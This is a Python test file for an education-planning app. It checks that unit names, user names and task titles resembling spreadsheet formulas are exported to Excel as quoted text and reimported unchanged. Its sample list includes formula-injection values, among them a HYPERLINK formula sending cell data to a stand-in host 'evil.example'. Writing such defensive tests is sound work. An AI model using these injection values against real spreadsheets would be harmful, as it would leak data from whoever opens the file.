"""Names people typed (units, users, task titles) that a spreadsheet would run as formulas are
written as text, in the table and in the hidden lists sheet, and read back unchanged."""

from __future__ import annotations

import warnings

import pytest
from openpyxl import load_workbook

from eduplan.orgs.models import Membership
from eduplan.orgs.services import add_unit, create_user
from eduplan.reports.breakdown import export as bx
from eduplan.reports.breakdown.importing import read_breakdown
from eduplan.tracking.assigning import assign_task
from tests.world import TODAY

from .conftest import assignment_state, key_rows

# No commas: the import reads "、" "，" "," in a unit cell as separators between units.
# fmt: off
NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd",
    "=1+1",
]
# fmt: on


def opened(path):
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # the file opens without a warning (its print area is a cell range)
        return load_workbook(path)


@pytest.mark.parametrize("name", NAMES)
def test_a_formula_like_name_is_exported_as_text_and_reimported_unchanged(world, tmp_path, name):
    group = world.unit("青禾第一教育集团")
    school = add_unit(name, parent=group, kind="school", school_level="primary", ownership="public")
    person = create_user("evil_owner", "x-Pass-2025", role=Membership.Role.REPORTER, unit=school, display_name=name)
    assign_task(world.task_a, user=world.users["admin"], lead_unit=school, owner=person, today=TODAY)
    world.task_b.title = name
    world.task_b.save(update_fields=["title"])
    path = tmp_path / "breakdown.xlsx"
    bx.write_breakdown(world.plan, path)

    workbook = opened(path)
    lists = workbook[bx.LISTS_SHEET]
    listed = [c for c in lists["A"] + lists["B"] if isinstance(c.value, str) and c.value.startswith(name)]
    ws = workbook.worksheets[0]
    rows = key_rows(ws)
    row_a, row_b = rows[bx.task_key(world.task_a.pk)], rows[bx.task_key(world.task_b.pk)]
    cells = [*listed, ws.cell(row_a, bx.LEAD), ws.cell(row_a, bx.OWNER), ws.cell(row_b, bx.TITLE)]
    assert len(listed) == 2  # the unit and the person in the drop-down lists
    assert [(c.data_type, c.quotePrefix) for c in cells] == [("s", True)] * len(cells)
    assert ws.cell(row_a, bx.LEAD).value == name and lists["A"][1:] and name in [c.value for c in lists["A"]]

    before = assignment_state(world.plan)
    reading = read_breakdown(path, world.plan)
    assert reading.problems == [] and reading.changes == []
    assert assignment_state(world.plan) == before
    assert before[(world.task_a.pk, None)][:3] == (name, (), "evil_owner")


def test_plain_names_get_no_quote_prefix(world, exported):
    workbook = opened(exported)
    cells = [c for c in workbook[bx.LISTS_SHEET]["A"] if c.value]
    assert cells and not any(c.quotePrefix for c in cells)
